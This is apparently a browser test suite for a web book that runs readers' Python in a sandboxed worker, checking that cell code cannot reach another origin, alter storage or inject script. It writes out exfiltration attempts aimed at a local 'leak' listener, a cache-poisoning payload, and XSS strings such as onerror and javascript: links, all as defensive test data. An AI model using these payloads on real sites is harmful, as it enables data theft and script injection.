"""The boundary around the reader's Python, tried as a hostile reader would.

A cell may do anything inside its Python; it must not touch the book's storage, run script
in the page, or reach another origin. Each route that reached around the output before
(see issue "The reader's Python is contained") is tried here in a real Chromium, and the
proof is independent of the page's own word for it: a listener on another loopback port
(another origin) must receive nothing, the service worker's cache and the page's storage
are read back unchanged, and nothing runs in the page (no dialog, no new element, no
changed storage).
"""
from __future__ import annotations

import http.server
import json
import threading

import pytest

from tests.harness.browser import t, wait_for
from tests.harness.pages import cell, cell_ids, demo, open_page, output, run, set_code, wait_demo
from tests.harness.site import serve

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]
CHAPTER = "neural_networks/"
SW_FILLED = """async () => {
    await navigator.serviceWorker.ready;
    if (!navigator.serviceWorker.controller) {
        await new Promise((r) => navigator.serviceWorker.addEventListener('controllerchange', r, { once: true }));
    }
    return (await caches.keys()).filter((k) => k.startsWith('nnbook-'));
}"""


class Listener:
    """An HTTP server on another port of this machine: another origin. It records every hit."""

    def __init__(self):
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self):
                hits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"leaked")

            do_GET = do_POST = do_PUT = do_OPTIONS = _record

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/leak"

    def close(self):
        self.server.shutdown()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def watch_page(page):
    """Dialogs and script-made elements in the page, from now on."""
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.evaluate("""() => {
        window.__added = [];
        // The book's own scripts (MathJax, loaded when a demo first shows a formula) come
        // from its origin; anything else that can run or cover the page is flagged.
        const bad = 'script:not([src^="' + location.origin + '/"]), iframe, object, embed, a[href^="javascript:"], [style*="fixed"]';
        new MutationObserver((list) => { for (const m of list) for (const n of m.addedNodes) {
            if (n.nodeType === 1 && (n.matches(bad) || n.querySelector?.(bad))) window.__added.push(n.outerHTML.slice(0, 200));
        } }).observe(document, { subtree: true, childList: true });
    }""")
    return dialogs


ATTEMPTS = """
import asyncio, js, json
from pyodide.ffi import to_js
url = {url!r}
results = {{}}
def attempt(name, action):
    try:
        action()
        results[name] = "called"
    except Exception as error:
        results[name] = type(error).__name__
class Sneaky:
    calls = 0
    def __str__(self):
        Sneaky.calls += 1
        return "/neural_networks/" if Sneaky.calls == 1 else url
def xhr():
    request = js.XMLHttpRequest.new()
    request.open("GET", url)
    request.send()
attempt("eval", lambda: js.eval(f"fetch('{{url}}')"))
attempt("Function", lambda: js.Function.new(f"fetch('{{url}}')")())
attempt("fetch", lambda: js.fetch(url))
attempt("fetch-object", lambda: js.fetch(Sneaky()))
attempt("fetch-request", lambda: js.fetch(js.Request.new(url)))
attempt("xhr", xhr)
attempt("websocket", lambda: js.WebSocket.new(url.replace("http", "ws")))
attempt("eventsource", lambda: js.EventSource.new(url))
attempt("importScripts", lambda: js.importScripts(url))
attempt("worker", lambda: js.Worker.new(url))
attempt("blob-worker", lambda: js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([f"fetch('{{url}}')"])))))
attempt("shared-worker", lambda: js.SharedWorker.new(url))
attempt("caches", lambda: js.caches.open("nnbook-planted"))
attempt("caches-proto", lambda: js.Object.getOwnPropertyDescriptor(js.WorkerGlobalScope.prototype, "caches").get.call(js))
attempt("indexedDB", lambda: js.indexedDB.open("planted"))
attempt("opfs", lambda: js.navigator.storage.getDirectory())
attempt("broadcast", lambda: js.BroadcastChannel.new("nnbook"))
attempt("postMessage", lambda: js.postMessage(to_js({{"type": "result", "id": 1, "result": {{}}}})))
attempt("close", lambda: js.close())
await asyncio.sleep(1.5)
print(json.dumps(results, sort_keys=True))
"""

REFUSED = {
    # forbidden by the Content-Security-Policy (no eval) or gone from the worker
    "eval": "JsException", "Function": "JsException",
    "importScripts": "JsException", "worker": "AttributeError", "blob-worker": "AttributeError",
    "shared-worker": "AttributeError", "caches": "AttributeError", "caches-proto": "AttributeError",
    "indexedDB": "AttributeError", "opfs": "AttributeError", "broadcast": "AttributeError",
    "postMessage": "AttributeError", "close": "AttributeError",
}


def test_no_route_reaches_another_origin_or_the_books_storage(new_page, site_url, listener):
    page = open_page(new_page, site_url + CHAPTER)
    dialogs = watch_page(page)
    book_keys = "Object.keys(localStorage).filter((k) => !k.startsWith('nnbook:edit:')).sort()"  # the cells' own edits
    keys_before = page.evaluate(book_keys)
    first, second = cell_ids(page)[:2]
    set_code(page, first, ATTEMPTS.format(url=listener.url))
    text = run(page, first)
    results = json.loads(text.strip().splitlines()[-1])
    for name, error in REFUSED.items():
        assert results[name] == error, (name, results[name])
    # The requests that were "called" were refused by the browser: nothing arrived.
    page.wait_for_timeout(1000)
    assert listener.hits == []
    assert dialogs == [] and page.evaluate("window.__added") == []
    assert page.evaluate(book_keys) == keys_before
    assert page.evaluate("indexedDB.databases().then((d) => d.map((x) => x.name))") == []
    # Python is untouched by all this.
    set_code(page, second, "print(6 * 7)")
    assert run(page, second).strip() == "42"


def test_a_cell_cannot_plant_a_script_in_the_offline_copy(new_page, site_url, listener):
    page = open_page(new_page, site_url + CHAPTER)
    assert page.evaluate(SW_FILLED)
    asset = f"{site_url}assets/nnbook/nnbook.js"
    original = page.evaluate("(u) => caches.match(u).then((r) => r.text())", asset)
    # The worker has no Cache Storage: the planting cell fails.
    first = cell_ids(page)[0]
    set_code(page, first, (
        "import js\n"
        f"js.caches.open('nnbook-planted').then(lambda c: c.put({asset!r}, js.Response.new('alert(1)')))"
    ))
    assert "AttributeError" in run(page, first, expect="error")
    # Planted another way (here by the test itself, as a page script could have): the service
    # worker checks every body against the build's hash and never serves this one.
    page.evaluate("""async ([u, body]) => {
        for (const name of await caches.keys()) {
            const cache = await caches.open(name);
            const old = await cache.match(u);
            await cache.put(u, new Response(body, { headers: old ? old.headers : {} }));
        }
    }""", [asset, f"fetch('{listener.url}');/*planted*/"])
    page.reload()
    wait_for(page, "document.querySelector('[data-nnbook-runtime]')?.dataset.state === 'ready'", timeout=120)
    served = page.evaluate("(u) => fetch(u).then((r) => r.text())", asset)
    assert served == original and "planted" not in served
    assert listener.hits == []
    # and the bad copy is gone from the cache, replaced by the real file
    wait_for(page, "(u) => caches.match(u).then((r) => r && r.text()).then((t) => t && !t.includes('planted'))", asset, timeout=30)


def test_demos_treat_pythons_values_as_data(new_page, site_url, listener):
    page = open_page(new_page, site_url + CHAPTER)
    wait_demo(page, "stepper")
    dialogs = watch_page(page)
    others = "JSON.stringify(Object.entries(localStorage).filter(([k]) => !k.startsWith('nnbook:edit:')))"
    stored = page.evaluate(others)
    # A cell replaces the demos' helper: its numbers become TeX and markup, its pictures URLs.
    first = cell_ids(page)[0]
    set_code(page, first, (
        "import sys\n"
        "demos = sys.modules['nnbook_kernel.demos']\n"
        "def evil(*args, **kwargs):\n"
        "    s = r'\\href{javascript:alert(document.domain)}{x}\\style{position:fixed;inset:0}{y}'\n"
        f"    img = {listener.url!r}\n"
        "    step = dict(layer=1, index=0, inputs=[s], w=[s], b=s, z=s, y=s, activation='sigmoid')\n"
        "    return dict(sizes=[1, 1], x=[s], layers=[dict(w=[[s]], b=[s], activation='sigmoid')],\n"
        "                trace=[step], y=[s], target=[s], error=[s], squared=s,\n"
        "                images=dict(start=img, values='<img src=x onerror=alert(1)>', **{'1-0': img}))\n"
        "demos.stepper_example = evil\n"
        "demos.stepper_from_source = evil\n"
        "demos.stepper_cell = evil\n"
        "demos.mnist_digit = lambda *a, **k: dict(index=0, count=2000, label=1, prediction=1,\n"
        "    probabilities=[0.1] * 10, digit=" + repr(listener.url) + ", bars='<svg onload=alert(1)>')\n"
    ))
    run(page, first)
    stepper = demo(page, "stepper")
    stepper.locator("[data-nnbook-action='new']").click()
    for _ in range(4):
        if stepper.locator("[data-nnbook-action='next']").is_enabled():
            stepper.locator("[data-nnbook-action='next']").click()
    mnist = demo(page, "mnist")
    mnist.locator("[data-nnbook-action='next']").click()
    page.wait_for_timeout(1500)
    # Refused as data: the demos say so; nothing ran, nothing was fetched.
    assert stepper.get_attribute("data-state") in ("error", "ready")
    assert "\\href" not in stepper.inner_text() and "javascript" not in (stepper.inner_html())
    assert page.locator("a[href^='javascript:']").count() == 0
    assert page.evaluate("window.__added") == [] and dialogs == []
    srcs = page.evaluate("[...document.querySelectorAll('[data-nnbook-demo] img')].map((i) => i.getAttribute('src') || '')")
    assert all(s == "" or s.startswith("data:image/svg+xml;base64,") for s in srcs), srcs
    assert listener.hits == []
    assert page.evaluate(others) == stored
    # Restart Python starts clean: the demos work again.
    page.locator("[data-nnbook-runbar] [data-nnbook-action='restart']").click()
    wait_for(page, "document.querySelector('[data-nnbook-runtime]').dataset.state === 'ready'", timeout=120)
    stepper.locator("[data-nnbook-action='new']").click()
    wait_for(page, "document.querySelector('[data-nnbook-demo=stepper]').dataset.nnbookOrigin === 'example' && document.querySelector('[data-nnbook-demo=stepper]').dataset.state === 'ready'", timeout=60)


def test_every_page_has_a_policy_and_python_runs_under_it(site_dir, new_page, site_url):
    pages = sorted(site_dir.glob("**/*.html"))
    assert pages
    for path in pages:
        text = path.read_text(encoding="utf-8")
        head = text.split("</head>", 1)[0]
        assert 'http-equiv="Content-Security-Policy"' in head, path
        policy = head.split('http-equiv="Content-Security-Policy" content="', 1)[1].split('"', 1)[0]
        assert "connect-src 'self'" in policy and "'unsafe-eval'" not in policy and "unsafe-inline" not in policy.split("style-src")[0]
        # the policy comes before any script
        assert head.index("Content-Security-Policy") < head.find("<script") or "<script" not in head
    page = open_page(new_page, site_url + CHAPTER)
    violations = page.evaluate("""() => new Promise((resolve) => {
        const seen = [];
        document.addEventListener('securitypolicyviolation', (e) => seen.push(e.violatedDirective));
        setTimeout(() => resolve(seen), 500);
    })""")
    assert violations == []
